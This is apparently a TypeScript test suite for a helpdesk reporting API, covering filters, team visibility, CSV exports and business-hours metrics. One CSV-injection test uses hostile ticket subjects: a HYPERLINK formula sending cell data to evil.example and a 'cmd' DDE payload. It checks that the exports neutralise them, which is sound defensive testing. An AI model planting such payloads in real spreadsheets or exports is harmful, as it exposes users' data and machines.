import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { sql } from 'drizzle-orm';
import { call, makeAgent, makeTeam, makeTicket, ManualClock, startTestServer, type TestAgent, type TestServer } from './harness.ts';
import { driveReports, report, say, type ReportDriver } from './reports-support.ts';
import { queryRows } from '../src/platform/db.ts';
import { recomputeReports, reportJobs } from '../src/modules/analytics/reports/index.ts';
import { SnapshotDaily } from '../src/modules/analytics/reports/jobs.ts';

const clock = new ManualClock(new Date('2026-03-09T08:00:00Z'));
let s: TestServer;
let admin: TestAgent;
let alice: TestAgent; // team A
let bob: TestAgent; // team B
let reader: TestAgent; // read-only, team A
let drive: ReportDriver;
const team = { a: '', b: '', cal: '' };
const tk: Record<string, { id: string; number: number }> = {};
const WEEK = 'from=2026-03-09T00:00:00Z&to=2026-03-16T00:00:00Z';

before(async () => {
  s = await startTestServer({ clock });
  admin = await makeAgent(s, { role: 'admin' });
  alice = await makeAgent(s, { name: 'Alice' });
  bob = await makeAgent(s, { name: 'Bob' });
  reader = await makeAgent(s, { role: 'readonly', name: 'Reader' });
  team.a = (await makeTeam(s, 'Team A', [alice, reader])).id;
  team.b = (await makeTeam(s, 'Team B', [bob])).id;
  drive = driveReports(s);

  clock.set('2026-03-09T08:00:00Z');
  tk.a1 = await makeTicket(s, admin, { subject: 'A1', teamId: team.a, channel: 'email', tags: ['vip'] });
  tk.a2 = await makeTicket(s, admin, { subject: 'A2', teamId: team.a, channel: 'chat' });
  tk.b1 = await makeTicket(s, admin, { subject: 'B1', teamId: team.b, channel: 'email', priority: 'high' });
  tk.n1 = await makeTicket(s, admin, { subject: 'N1', channel: 'web' });
  clock.set('2026-03-09T08:05:00Z');
  await say(s, admin, tk.a1.id, { text: 'Hello' });
  clock.set('2026-03-09T08:15:00Z');
  await say(s, admin, tk.a2.id, { text: 'Hello' });
  clock.set('2026-03-09T08:50:00Z');
  await say(s, admin, tk.b1.id, { text: 'Hello' });
  clock.set('2026-03-09T10:00:00Z');
  await drive.settle();
});
after(async () => {
  drive?.stop();
  await s?.close();
});

const kpis = (as: TestAgent, q = '') => report(s, as, `/api/v1/reports/kpis?${WEEK}${q}`);

describe('report filters', () => {
  it('team, channel, tags and priority narrow every figure', async () => {
    const all = await kpis(admin);
    assert.deepEqual([all.volume.total, all.frt.calendar.n, all.backlog], [4, 3, 4]);
    const a = await kpis(admin, `&teamId=${team.a}`);
    assert.deepEqual([a.volume.total, a.frt.calendar.median], [2, 10]);
    const email = await kpis(admin, '&channel=email');
    assert.deepEqual([email.volume.total, email.frt.calendar.median], [2, 27.5]);
    assert.deepEqual(email.filters.channel, ['email']);
    assert.equal((await kpis(admin, '&channel=email,chat')).volume.total, 3);
    assert.equal((await kpis(admin, '&tags=vip')).volume.total, 1);
    assert.equal((await kpis(admin, '&priority=high')).volume.total, 1);
  });
});

describe('report visibility', () => {
  it('an agent counts only tickets of their teams and without a team', async () => {
    const mine = await kpis(alice);
    assert.deepEqual([mine.volume.total, mine.frt.calendar.n, mine.backlog], [3, 2, 3]);
    const drill = await report(s, alice, `/api/v1/reports/drilldown?metric=volume&${WEEK}`);
    assert.deepEqual(drill.data.map((d: any) => d.subject).sort(), ['A1', 'A2', 'N1']);
  });

  it('filtering by a team the caller cannot see returns nothing, not an error or a leak', async () => {
    const other = await kpis(alice, `&teamId=${team.b}`);
    assert.deepEqual([other.volume.total, other.frt.calendar.median, other.frt.calendar.n], [0, null, 0]);
    const drill = await report(s, alice, `/api/v1/reports/drilldown?metric=frt&teamId=${team.b}&${WEEK}`);
    assert.deepEqual(drill.data, []);
    const heat = await report(s, alice, `/api/v1/reports/heatmap?teamId=${team.b}&${WEEK}`);
    assert.equal(heat.total, 0);
  });

  it('read-only users may read reports but not the raw exports', async () => {
    const r = await kpis(reader);
    assert.equal(r.volume.total, 3);
    assert.equal((await call(s, 'GET', `/api/v1/reports/definitions`, { as: reader })).status, 200);
    assert.equal((await call(s, 'GET', `/api/v1/exports/tickets.csv?${WEEK}`, { as: reader })).status, 403);
    assert.equal((await call(s, 'GET', `/api/v1/exports/events.csv?${WEEK}`, { as: alice })).status, 403);
    assert.equal((await call(s, 'GET', `/api/v1/reports/kpis`)).status, 401);
  });
});

describe('CSV', () => {
  it('every report answers in CSV for ?format=csv or Accept: text/csv', async () => {
    const res = await call(s, 'GET', `/api/v1/reports/kpis?${WEEK}&format=csv`, { as: admin });
    assert.equal(res.status, 200);
    assert.match(String(res.headers['content-type']), /^text\/csv/);
    assert.match(res.body, /^figure,value\r\n/);
    assert.match(res.body, /\r\nvolume\.total,4\r\n/);
    assert.match(res.body, /\r\nfrt\.calendar\.median,15\r\n/);
    const series = await s.servus.app.inject({ method: 'GET', url: `/api/v1/reports/series?metric=volume&${WEEK}&tz=UTC`, headers: { ...admin.auth, accept: 'text/csv' } });
    assert.match(series.headers['content-type'] as string, /^text\/csv/);
    assert.match(series.body, /^bucket,start,volume \(count\),n\r\n2026-03-09,2026-03-09T00:00:00.000Z,4,4\r\n/);
    const defs = await call(s, 'GET', '/api/v1/reports/definitions?format=csv', { as: admin });
    assert.match(defs.body, /Erste Antwortzeit/);
  });

  it('neutralises formula cells in exports and reports (CSV injection)', async () => {
    clock.set('2026-03-10T09:00:00Z');
    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', 'safe, with "quotes"'];
    for (const subject of hostile) await makeTicket(s, admin, { subject });
    await drive.settle();
    const res = await call(s, 'GET', `/api/v1/exports/tickets.csv?${WEEK}`, { as: admin });
    assert.equal(res.status, 200);
    assert.match(String(res.headers['content-disposition']), /attachment; filename="tickets\.csv"/);
    const text: string = res.body;
    assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`), text);
    assert.ok(text.includes(`"'+cmd|' /C calc'!A0"`));
    assert.ok(text.includes(`"'-2+3"`));
    assert.ok(text.includes(`"'@SUM(A1:A9)"`));
    assert.ok(text.includes(`"safe, with ""quotes"""`));
    for (const line of text.split('\r\n').slice(1)) {
      const cells = line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [];
      for (const c of cells) assert.doesNotMatch(c.replace(/^"/, ''), /^[=+@\t\r]/, `unsafe cell in: ${line}`);
    }
    const drill = await s.servus.app.inject({ method: 'GET', url: `/api/v1/reports/drilldown?metric=volume&${WEEK}`, headers: { ...admin.auth, accept: 'text/csv' } });
    assert.ok(drill.body.includes(`"'@SUM(A1:A9)"`));
  });

  it('exports the event log as CSV, filtered to the period and the filters', async () => {
    const res = await call(s, 'GET', `/api/v1/exports/events.csv?${WEEK}&teamId=${team.b}`, { as: admin });
    assert.equal(res.status, 200);
    const lines = (res.body as string).trim().split('\r\n');
    assert.equal(lines[0], 'event_id,ticket_number,type,actor_kind,actor_id,actor_role,before,after,message_id,created_at');
    const numbers = new Set(lines.slice(1).map((l) => Number(l.split(',')[1])));
    assert.deepEqual([...numbers], [tk.b1!.number]);
    assert.ok(lines.some((l) => l.split(',')[2] === 'reply'));
  });
});

describe('business hours through a team calendar (METRICS §8.3 F-A)', () => {
  it('FRT Fri 16:30 → Tue 10:15 Berlin over Pfingstmontag: 5385 calendar, 105 business minutes', async () => {
    const cal = await call(s, 'POST', '/api/v1/calendars', {
      as: admin,
      body: { name: 'Berlin office', timeZone: 'Europe/Berlin', weekly: Object.fromEntries(['1', '2', '3', '4', '5'].map((d) => [d, [{ start: '09:00', end: '17:00' }]])), holidays: { country: 'DE' } },
    });
    assert.equal(cal.status, 201, JSON.stringify(cal.body));
    team.cal = (await makeTeam(s, 'Office hours')).id;
    assert.equal((await call(s, 'PATCH', `/api/v1/teams/${team.cal}`, { as: admin, body: { calendarId: cal.body.id } })).status, 200);
    clock.set('2025-06-06T14:30:00Z');
    const t = await makeTicket(s, admin, { subject: 'F-A', teamId: team.cal });
    clock.set('2025-06-10T08:15:00Z');
    await say(s, admin, t.id, { text: 'Sorry for the wait.' });
    await drive.settle();
    const r = await report(s, admin, `/api/v1/reports/kpis?from=2025-06-01T00:00:00Z&to=2025-06-15T00:00:00Z&teamId=${team.cal}`);
    assert.deepEqual(r.frt.calendar, { median: 5385, mean: 5385, p90: 5385, n: 1 });
    assert.deepEqual(r.frt.business, { median: 105, mean: 105, p90: 105, n: 1 });
    const business = await report(s, admin, `/api/v1/reports/series?metric=frt&hours=business&interval=month&from=2025-06-01T00:00:00Z&to=2025-07-01T00:00:00Z&tz=UTC&teamId=${team.cal}`);
    assert.deepEqual(business.points.map((p: any) => p.value), [105]);
  });
});

describe('daily rows', () => {
  it('the nightly job writes each local day whose 23:59 has passed: created, solved and the backlog then', async () => {
    clock.set('2026-03-10T12:00:00Z');
    const job = reportJobs(s.servus.services).find((j) => j.name === SnapshotDaily.name)!;
    await job.handler({});
    const rows = await queryRows<{ day: string; created: number; solved: number; backlog: number }>(
      s.servus.services.database.db,
      sql`select day::text as day, created, solved, backlog from report_daily where tz = 'Europe/Berlin' order by day`,
    );
    assert.deepEqual(
      rows.map((r) => [r.day, Number(r.created), Number(r.solved), Number(r.backlog)]),
      [
        ['2026-03-08', 0, 0, 1],
        ['2026-03-09', 4, 0, 5],
      ],
      'the F-A ticket from 2025 is still open; 10 March is not over yet',
    );
  });
});

describe('recompute', () => {
  it('rebuilding every fact from the event log gives the same figures as incremental maintenance', async () => {
    clock.set('2026-03-12T12:00:00Z');
    const urls = [
      `/api/v1/reports/kpis?${WEEK}`,
      `/api/v1/reports/kpis?from=2025-06-01T00:00:00Z&to=2026-04-01T00:00:00Z`,
      `/api/v1/reports/series?metric=backlog&interval=day&${WEEK}`,
      `/api/v1/reports/series?metric=frt&interval=week&from=2025-06-01T00:00:00Z&to=2026-04-01T00:00:00Z`,
      `/api/v1/reports/heatmap?${WEEK}`,
    ];
    const incremental = await Promise.all(urls.map((u) => report(s, admin, u)));
    const rows = () => queryRows<Record<string, unknown>>(s.servus.services.database.db, sql`select * from report_ticket_facts order by ticket_id`);
    const before = (await rows()).map(({ refreshed_at: _r, ...rest }) => rest);
    await s.servus.services.database.db.execute(sql`delete from report_ticket_facts`);
    assert.equal((await kpis(admin)).volume.total, 0, 'the reports read the facts');
    const visited = await recomputeReports({ db: s.servus.services.database.db, clock });
    assert.equal(visited, before.length);
    const afterRows = (await rows()).map(({ refreshed_at: _r, ...rest }) => rest);
    assert.deepEqual(afterRows, before);
    const recomputed = await Promise.all(urls.map((u) => report(s, admin, u)));
    assert.deepEqual(recomputed, incremental);
    const daily = await queryRows<{ day: string; created: number; backlog: number }>(s.servus.services.database.db, sql`select day::text as day, created, backlog from report_daily where tz = 'Europe/Berlin' and day = '2026-03-09'`);
    assert.deepEqual(daily.map((d) => [d.day, Number(d.created), Number(d.backlog)]), [['2026-03-09', 4, 5]], 'four created that day; the backlog also holds the unsolved F-A ticket');
  });
});
